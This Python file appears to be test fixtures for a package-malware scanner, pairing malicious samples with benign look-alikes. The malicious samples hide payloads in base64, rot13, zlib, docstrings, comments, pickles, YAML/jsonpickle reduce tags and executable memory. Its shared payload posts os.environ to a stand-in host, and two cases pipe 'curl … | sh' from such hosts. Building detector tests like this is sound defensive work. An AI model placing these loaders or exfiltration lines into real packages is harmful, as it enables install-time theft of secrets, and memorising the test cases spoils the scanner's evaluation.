"""Ways bytes become code other than a plain exec/eval: standard-library runners of source
strings (timeit, profilers, debuggers, the code module, the C API), YAML tags that call
functions, and payloads kept in the module's own docstring or comments."""

from __future__ import annotations

import base64
import codecs
import os
import pickle
import zlib

from techniques import Case

PAYLOAD = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://b.x.invalid/e', data=repr(dict(os.environ)).encode())\n"
)
B64 = base64.b64encode(PAYLOAD.encode()).decode()
ROT = codecs.encode(PAYLOAD, "rot13")
ZB64 = base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()


class _Shell:
    """Pickled, never unpickled: dumping writes a reference to os.system, nothing runs."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, ("echo pwned",))


PICKLED_B64 = base64.b64encode(pickle.dumps(_Shell(), protocol=4)).decode()
PICKLED_P0 = b"cos\nsystem\n(S'echo pwned'\ntR."
PLAIN_B64 = base64.b64encode(pickle.dumps({"retries": 3, "hosts": ["a.example.org"]})).decode()


def _init(name: str, body: str) -> dict[str, str | bytes]:
    return {f"{name}/__init__.py": body}


CASES = [
    Case("pickle in a base64 literal, unpickled at import through an alias", "pickle-literal",
         _init("pickle_literal", f"import base64\nimport pickle as _p\n\n"
                                 f"_STATE = _p.loads(base64.b64decode({PICKLED_B64!r}))\n"),
         "malicious", ("PV203",), kind="wheel"),
    Case("protocol-0 pickle bytes unpickled in setup.py", "pickle-p0", {
        "setup.py": (f"import pickle\nfrom setuptools import setup\n\n"
                     f"pickle.loads({PICKLED_P0!r})\n"
                     "setup(name='pickle-p0', version='1.0')\n"),
    }, "malicious", ("PV203",)),
    Case("timeit.timeit runs a decoded statement at import", "timeit-run", _init(
        "timeit_run", f"import base64, timeit\n\ntimeit.timeit(base64.b64decode({B64!r})"
                      ".decode(), number=1)\n"), "malicious", ("PV201",), kind="wheel"),
    Case("cProfile.run of rot13 source in setup.py", "profile-run", {
        "setup.py": (f"import codecs, cProfile\nfrom setuptools import setup\n\n"
                     f"cProfile.run(codecs.decode({ROT!r}, 'rot13'))\n"
                     "setup(name='profile-run', version='1.0')\n"),
    }, "malicious", ("PV201",)),
    Case("code.InteractiveConsole().push() of decoded lines", "console-push", _init(
        "console_push", f"import base64, code\n\n_c = code.InteractiveConsole()\n"
                        f"for _l in base64.b64decode({B64!r}).decode().splitlines():\n"
                        "    _c.push(_l)\n"), "malicious", ("PV303",), kind="wheel"),
    Case("ctypes.pythonapi.PyRun_SimpleString of inflated bytes", "pyrun-capi", _init(
        "pyrun_capi", f"import base64, ctypes, zlib\n\nctypes.pythonapi.PyRun_SimpleString("
                      f"zlib.decompress(base64.b64decode({ZB64!r})))\n"),
        "malicious", ("PV201",), kind="wheel"),
    Case("YAML with a python/object/apply tag loaded unsafely at import", "yamlapply", {
        "yamlapply/__init__.py": (
            "import os, yaml\n\n"
            "with open(os.path.join(os.path.dirname(__file__), 'defaults.yaml')) as fh:\n"
            "    CONFIG = yaml.load(fh, Loader=yaml.UnsafeLoader)\n"),
        "yamlapply/defaults.yaml": (
            "name: yamlapply\nhooks: !!python/object/apply:os.system\n"
            "  - 'curl -s https://y.x.invalid/i.sh | sh'\n"),
    }, "malicious", ("PV251",), kind="wheel"),
    Case("base64 payload kept in the module docstring, exec'd from __doc__", "docpayload",
         _init("docpayload", f'"""{B64}"""\nimport base64\n\nexec(base64.b64decode(__doc__))\n'),
         "malicious", ("PV201",), kind="wheel"),
    Case("payload in a trailing comment read back through open(__file__)", "commentpayload",
         _init("commentpayload",
               "import base64, zlib\n\n"
               "with open(__file__) as _f:\n    _tail = _f.read().rsplit('#', 1)[1]\n"
               "exec(zlib.decompress(base64.b64decode(_tail)))\n"
               f"#{ZB64}\n"),
         "malicious", ("PV201",), kind="wheel"),
    Case("str.translate substitution cipher fed to exec", "translate", _init(
        "translate_exec",
        "_T = str.maketrans('nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM', "
        "'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ')\n"
        f"exec({ROT!r}.translate(_T))\n"), "malicious", ("PV212",), kind="wheel"),
    Case("bytes of reversed integers fed to exec", "intlist", _init(
        "intlist_exec",
        f"_D = {list(reversed(PAYLOAD.encode()))!r}\nexec(bytes(reversed(_D)))\n"),
        "malicious", ("PV212",), kind="wheel"),
    Case("exec kept in a list and a dict, called by index", "containerexec", _init(
        "containerexec", f"import base64\n\nRUNNERS = {{'start': exec}}\n"
                         f"RUNNERS['start'](base64.b64decode({B64!r}))\n"
                         f"[eval, exec][1](base64.b64decode({B64!r}))\n"),
        "malicious", ("PV201",), kind="wheel"),
    Case("exec.__call__ of a decoded payload", "dundercall", _init(
        "dundercall", f"import base64\n\nexec.__call__(base64.b64decode({B64!r}))\n"),
        "malicious", ("PV201",), kind="wheel"),
    Case("jsonpickle document with py/reduce decoded at install", "jsonpk", {
        "setup.py": ("import jsonpickle\nfrom setuptools import setup\n\n"
                     "with open('build_cfg.json') as fh:\n    cfg = jsonpickle.decode(fh.read())\n"
                     "setup(name='jsonpk', version='1.0')\n"),
        "build_cfg.json": ('{"py/reduce": [{"py/function": "os.system"}, '
                           '{"py/tuple": ["curl -s https://x.invalid/s | sh"]}]}\n'),
    }, "malicious", ("PV251",)),
    Case("payload in package data read through importlib.resources", "resbytes", {
        "resbytes/__init__.py": (
            "import base64, zlib\nfrom importlib import resources\n"
            "exec(zlib.decompress(base64.b64decode(resources.files(__package__)"
            ".joinpath('fonts.bin').read_bytes())))\n"),
        "resbytes/fonts.bin": ZB64,
    }, "malicious", ("PV245",), kind="wheel"),
    Case("payload in a .dist-info file read through importlib.metadata", "distinfo", {
        "distinfo/__init__.py": (
            "import base64, zlib\nfrom importlib import metadata\n"
            "_t = metadata.distribution('distinfo').read_text('NOTES.txt')\n"
            "exec(zlib.decompress(base64.b64decode(_t)))\n"),
        "distinfo-1.0.dist-info/NOTES.txt": ZB64,
    }, "malicious", ("PV201",), kind="wheel"),
    Case("decoded bytes mapped executable and called as machine code", "mmapcode", _init(
        "mmapcode",
        "import base64, ctypes, mmap\n\n_sc = base64.b64decode('kJCQkJCQkJCQkJCQkJCQkMw=')\n"
        "_mm = mmap.mmap(-1, len(_sc), prot=mmap.PROT_READ | mmap.PROT_WRITE | "
        "mmap.PROT_EXEC)\n_mm.write(_sc)\n"
        "_addr = ctypes.addressof(ctypes.c_char.from_buffer(_mm))\n"
        "ctypes.CFUNCTYPE(None)(_addr)()\n"), "malicious", ("PV308",), kind="wheel"),
    Case("libc mprotect and a ctypes.cast function pointer in setup.py", "mprotect", {
        "setup.py": (
            "import ctypes, ctypes.util\nfrom setuptools import setup\n\n"
            "libc = ctypes.CDLL(ctypes.util.find_library('c'))\n"
            "buf = ctypes.create_string_buffer(bytes.fromhex('90909090c3'), 4096)\n"
            "page = ctypes.addressof(buf) & ~4095\n"
            "libc.mprotect(ctypes.c_void_p(page), 8192, 7)\n"
            "ctypes.cast(buf, ctypes.CFUNCTYPE(None))()\n"
            "setup(name='mprotect', version='1.0')\n"),
    }, "malicious", ("PV308",)),
    # benign look-alikes
    Case("template engine compiling its own generated source", "tinytpl", _init(
        "tinytpl",
        "class Template:\n    def __init__(self, text):\n"
        "        lines = ['def render(ctx):', '    out = []']\n"
        "        for part in text.split('{{'):\n"
        "            lines.append('    out.append(%r)' % part)\n"
        "        lines.append('    return \"\".join(out)')\n"
        "        ns = {}\n"
        "        exec(compile('\\n'.join(lines), '<template>', 'exec'), ns)\n"
        "        self.render = ns['render']\n\n\n"
        "DEFAULT = Template('hello {{ name }}')\n"), "benign", kind="wheel"),
    Case("package reading its own JSON and YAML config at import", "cfgdata", {
        "cfgdata/__init__.py": (
            "import json, pkgutil, yaml\nfrom importlib import resources\n\n"
            "SETTINGS = json.loads(pkgutil.get_data(__name__, 'settings.json'))\n"
            "SCHEMA = yaml.safe_load(resources.files(__name__).joinpath('schema.yaml')"
            ".read_text())\n"
        ),
        "cfgdata/settings.json": '{"retries": 3, "url": "https://api.example.org/v1"}\n',
        "cfgdata/schema.yaml": "type: object\nproperties:\n  retries: {type: integer}\n",
    }, "benign", kind="wheel"),
    Case("timeit in a benchmark helper, doctest of own docstrings", "benchhelp", _init(
        "benchhelp",
        '"""Helpers.\n\n>>> add(1, 2)\n3\n"""\nimport doctest, timeit\n\n\n'
        "def add(a, b):\n    return a + b\n\n\n"
        "def bench(stmt='add(1, 2)', n=1000):\n"
        "    return timeit.timeit(stmt, globals=globals(), number=n)\n\n\n"
        "def selftest():\n    return doctest.testmod()\n"), "benign", kind="wheel"),
    Case("YAML config loaded with the full loader, no python tags", "yamlfull", {
        "yamlfull/__init__.py": (
            "import os, yaml\n\n"
            "with open(os.path.join(os.path.dirname(__file__), 'defaults.yaml')) as fh:\n"
            "    CONFIG = yaml.load(fh, Loader=yaml.FullLoader)\n"),
        "yamlfull/defaults.yaml": "name: yamlfull\nretries: 3\nhosts: [a.example.org]\n",
    }, "benign", kind="wheel"),
    Case("JIT helper mapping executable memory when the user compiles", "tinyjit", _init(
        "tinyjit",
        "import ctypes, mmap\n\n\n"
        "def compile_add(code: bytes):\n"
        "    mm = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | "
        "mmap.PROT_EXEC)\n    mm.write(code)\n"
        "    addr = ctypes.addressof(ctypes.c_char.from_buffer(mm))\n"
        "    return ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int)(addr)\n"),
        "benign", kind="wheel"),
    Case("defaults shipped as a pickle of plain data, loaded at import", "pickledefaults",
         _init("pickledefaults", f"import base64, pickle\n\n"
                                 f"DEFAULTS = pickle.loads(base64.b64decode({PLAIN_B64!r}))\n"),
         "benign", kind="wheel"),
]
